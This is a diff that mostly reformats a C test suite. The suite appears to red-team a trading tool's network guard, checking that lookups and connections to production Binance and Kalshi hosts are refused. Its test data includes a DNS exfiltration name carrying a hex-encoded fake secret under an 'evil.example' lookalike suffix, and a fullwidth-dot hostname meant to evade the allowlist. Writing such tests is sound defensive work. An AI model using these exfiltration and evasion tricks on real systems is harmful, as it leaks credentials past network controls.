@@ -15,7 +15,9 @@
  * Cases that cannot run here (unshare not permitted) exit 77: ctest reports SKIP.
  */
 /* Messages here are diagnostics: truncating one is harmless. */
+#if defined(__GNUC__) && !defined(__clang__)
 #pragma GCC diagnostic ignored "-Wformat-truncation"
+#endif
 
 #include <setjmp.h>
 #include <stdarg.h>
@@ -60,25 +62,25 @@
 static const char *rt_outcome = "error";
 static char rt_detail[512];
 
-#define RT_ESCAPE(...)                                                                     \
-	do {                                                                               \
-		rt_outcome = "escaped";                                                    \
-		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                       \
-		fail_msg("ESCAPE: %s", rt_detail);                                         \
+#define RT_ESCAPE(...)                                                                             \
+	do {                                                                                       \
+		rt_outcome = "escaped";                                                            \
+		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                               \
+		fail_msg("ESCAPE: %s", rt_detail);                                                 \
 	} while (0)
 
-#define RT_SKIP(...)                                                                       \
-	do {                                                                               \
-		rt_outcome = "skipped";                                                    \
-		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                       \
-		print_message("SKIP: %s\n", rt_detail);                                    \
-		skip();                                                                    \
+#define RT_SKIP(...)                                                                               \
+	do {                                                                                       \
+		rt_outcome = "skipped";                                                            \
+		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                               \
+		print_message("SKIP: %s\n", rt_detail);                                            \
+		skip();                                                                            \
 	} while (0)
 
-#define RT_REFUSED(...)                                                                    \
-	do {                                                                               \
-		rt_outcome = "refused";                                                    \
-		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                       \
+#define RT_REFUSED(...)                                                                            \
+	do {                                                                                       \
+		rt_outcome = "refused";                                                            \
+		snprintf(rt_detail, sizeof(rt_detail), __VA_ARGS__);                               \
 	} while (0)
 
 /* ---- the recording DNS stub and the namespace ----------------------------------------- */
@@ -144,11 +146,11 @@ static int stub_count(void)
 
 /* Output counters of this network namespace. */
 struct nsctr {
-	long ip_out;	 /* Ip: OutRequests */
-	long ip_noroute; /* Ip: OutNoRoutes */
-	long udp_out;	 /* Udp: OutDatagrams */
-	long tcp_open;	 /* Tcp: ActiveOpens */
-	long ip6_out;	 /* Ip6OutRequests */
+	long ip_out;	  /* Ip: OutRequests */
+	long ip_noroute;  /* Ip: OutNoRoutes */
+	long udp_out;	  /* Udp: OutDatagrams */
+	long tcp_open;	  /* Tcp: ActiveOpens */
+	long ip6_out;	  /* Ip6OutRequests */
 	long ip6_noroute; /* Ip6OutNoRoutes */
 };
 
@@ -231,15 +233,15 @@ static void nsctr_read(struct nsctr *c)
 
 /* What the child saw, in shared memory. */
 struct ns_out {
-	int setup;		/* 0 ok, 77 not permitted (skip), else the failed step */
-	int rc;			/* the attempt's return */
-	int queries;		/* DNS queries the stub saw during the attempt */
+	int setup;		    /* 0 ok, 77 not permitted (skip), else the failed step */
+	int rc;			    /* the attempt's return */
+	int queries;		    /* DNS queries the stub saw during the attempt */
 	char qnames[STUB_MAX][256]; /* their names */
-	struct nsctr before;	/* counters around the attempt */
+	struct nsctr before;	    /* counters around the attempt */
 	struct nsctr after;
-	char ev[8192];		/* denied events written during the attempt */
-	char trail[1024];	/* tt_err trail after the attempt */
-	char extra[256];	/* attempt-specific note */
+	char ev[8192];	  /* denied events written during the attempt */
+	char trail[1024]; /* tt_err trail after the attempt */
+	char extra[256];  /* attempt-specific note */
 };
 
 static int lo_up(void)
@@ -353,8 +355,7 @@ static struct ns_out *in_netns(attempt_fn fn, const char *host, uint16_t port)
 
 static int nsctr_moved(const struct ns_out *o)
 {
-	return o->after.ip_out != o->before.ip_out ||
-	       o->after.ip_noroute != o->before.ip_noroute ||
+	return o->after.ip_out != o->before.ip_out || o->after.ip_noroute != o->before.ip_noroute ||
 	       o->after.udp_out != o->before.udp_out || o->after.tcp_open != o->before.tcp_open ||
 	       o->after.ip6_out != o->before.ip6_out ||
 	       o->after.ip6_noroute != o->before.ip6_noroute;
@@ -444,7 +445,7 @@ static int att_ws(const char *host, uint16_t port, struct ns_out *o)
 	rc = tt_wsconn_start(&ws);
 	if (!o->extra[0])
 		snprintf(o->extra, sizeof(o->extra), "state %s down %d",
-		 tt_conn_state_name(tt_conn_state(&ws.conn)), down_reason);
+			 tt_conn_state_name(tt_conn_state(&ws.conn)), down_reason);
 	if (rc == 0) {
 		/* not refused: let it run (the namespace has no route) */
 		for (int i = 0; i < 20 && tt_conn_state(&ws.conn) != TT_CONN_CLOSED; i++)
@@ -617,10 +618,10 @@ static void test_ipv6_zone_id_is_refused(void **s)
  * queried (the control: the stub would have seen a leak). */
 static int att_resolve_all(const char *unused, uint16_t port, struct ns_out *o)
 {
-	static const char *const prod[] = {
-	    "api.binance.com",	  "stream.binance.com",	     "ws-api.binance.com",
-	    "demo-api.binance.com", "api.binance.us",	     "data-api.binance.vision",
-	    "api.elections.kalshi.com", "trading-api.kalshi.com"};
+	static const char *const prod[] = {"api.binance.com",	       "stream.binance.com",
+					   "ws-api.binance.com",       "demo-api.binance.com",
+					   "api.binance.us",	       "data-api.binance.vision",
+					   "api.elections.kalshi.com", "trading-api.kalshi.com"};
 	struct sockaddr_storage ss;
 	socklen_t len;
 	int refused = 0;
@@ -628,8 +629,8 @@ static int att_resolve_all(const char *unused, uint16_t port, struct ns_out *o)
 	for (size_t i = 0; i < TT_ARRAY_LEN(prod); i++)
 		refused += tt_net_resolve(prod[i], 443, &ss, &len) == -TT_EDENIED;
 	o->queries = stub_count(); /* read back by the parent through extra */
-	snprintf(o->extra, sizeof(o->extra), "%d/%zu refused, %d queries before control",
-		 refused, TT_ARRAY_LEN(prod), o->queries);
+	snprintf(o->extra, sizeof(o->extra), "%d/%zu refused, %d queries before control", refused,
+		 TT_ARRAY_LEN(prod), o->queries);
 	if (tt_net_resolve("testnet.binance.vision", 443, &ss, &len) == 0)
 		refused = -1; /* the stub answers NXDOMAIN: success is impossible */
 	return refused == (int)TT_ARRAY_LEN(prod) ? -TT_EDENIED : 0;
@@ -654,8 +655,10 @@ static void test_dns_lookup_of_prod_names_sends_no_query(void **s)
 static void test_dns_exfil_under_lookalike_suffix_is_refused(void **s)
 {
 	/* "data.<hex of a secret>.testnet.binance.vision.evil.example" */
-	refuse_case(att_resolve, "data.6170695f6b65793d5345435245545f30313233.testnet.binance.vision.evil.example",
-		    53, DENY, "not_allowlisted");
+	refuse_case(
+	    att_resolve,
+	    "data.6170695f6b65793d5345435245545f30313233.testnet.binance.vision.evil.example", 53,
+	    DENY, "not_allowlisted");
 }
 
 static void test_dns_exfil_overlong_label_is_refused(void **s)
@@ -693,8 +696,9 @@ static void test_hostname_from_environment_is_refused(void **s)
 static void test_unicode_fullwidth_dot_is_refused(void **s)
 {
 	/* "api.binance<U+FF0E>com": IDNA would map it to a dot; the guard refuses the bytes */
-	refuse_case(att_https, "api.binance\xef\xbc\x8e"
-			       "com",
+	refuse_case(att_https,
+		    "api.binance\xef\xbc\x8e"
+		    "com",
 		    443, -EINVAL, "bad_character");
 }
 
@@ -889,7 +893,9 @@ static void link_to(const char *target_rel, const char *link_rel)
 	assert_int_equal(symlink(t, l), 0);
 }
 
-#define CRED(env) "[credential]\n" env "venue = binance\nkey_type = hmac\nkey_id = k1\nsecret_file = key.pem\n"
+#define CRED(env)                                                                                  \
+	"[credential]\n" env                                                                       \
+	"venue = binance\nkey_type = hmac\nkey_id = k1\nsecret_file = key.pem\n"
 #define CRED_TESTNET CRED("env = testnet\n")
 
 static void cred_setup(void)
@@ -1035,7 +1041,10 @@ struct rt_case {
 };
 
 /* One line per case: CMake reads the names from the RT_CASE lines below. */
-#define RT_CASE(n, layer) {#n, layer, test_##n}
+#define RT_CASE(n, layer)                                                                          \
+	{                                                                                          \
+#n, layer, test_##n                                                                \
+	}
 static const struct rt_case cases[] = {
     RT_CASE(ws_to_stream_binance_com_is_refused, "run:guard"),
     RT_CASE(ws_to_ws_api_binance_com_is_refused, "run:guard"),
